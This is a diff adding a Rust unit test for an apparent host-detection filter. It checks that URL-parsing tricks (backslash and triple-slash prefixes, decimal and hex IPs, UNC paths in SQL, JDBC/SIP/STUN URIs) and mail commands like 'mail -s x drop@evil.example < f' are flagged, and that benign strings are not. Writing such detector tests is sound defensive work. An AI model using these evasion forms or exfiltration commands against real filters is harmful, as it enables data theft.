@@ -189,6 +189,43 @@ fn what_is_allowed_stays_allowed_in_every_dress() {
 }
 
 #[test]
+fn finds_what_browsers_programs_and_drivers_read_as_a_host() {
+    for (text, key) in [
+        ("/\\evil.example/x", "url"),
+        ("\\/evil.example/x", "url"),
+        ("///evil.example/x", "url"),
+        ("/\t/evil.example/x", "url"),
+        ("![x](///evil.example/p.png)", "text"),
+        ("<img src=\"/\\evil.example/p.png\">", "text"),
+        ("stun:evil.example", "text"),
+        ("sip:jo@evil.example", "text"),
+        ("jdbc:oracle:thin:@evil.example:1521:x", "text"),
+        ("'\\\\\\\\evil.example\\\\share'", "sql"),
+        ("localhost:3000/api", "url"),
+        ("vault:8200/v1", "url"),
+        ("3418468615", "url"),
+        ("0xCBC07107/x", "url"),
+        ("2001:db8::7", "host"),
+        ("mail -s x drop@evil.example < f", "command"),
+        ("sendmail drop@evil.example", "command"),
+        ("finger x@evil.example", "command"),
+    ] {
+        assert_ne!(forbidden(text, Some(key)), Vec::<String>::new(), "{text}");
+    }
+    for (text, key) in [
+        ("//comment", "text"),
+        ("C:\\Users\\ann", "path"),
+        ("a /// b", "text"),
+        ("20251122", "target"),
+        ("mail me the notes", "text"),
+        ("see http://good.example.com///x", "text"),
+        ("turn: left", "text"),
+    ] {
+        assert_eq!(forbidden(text, Some(key)), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
 fn a_sign_behind_a_host_is_not_its() {
     for behind in [
         "，谢谢",
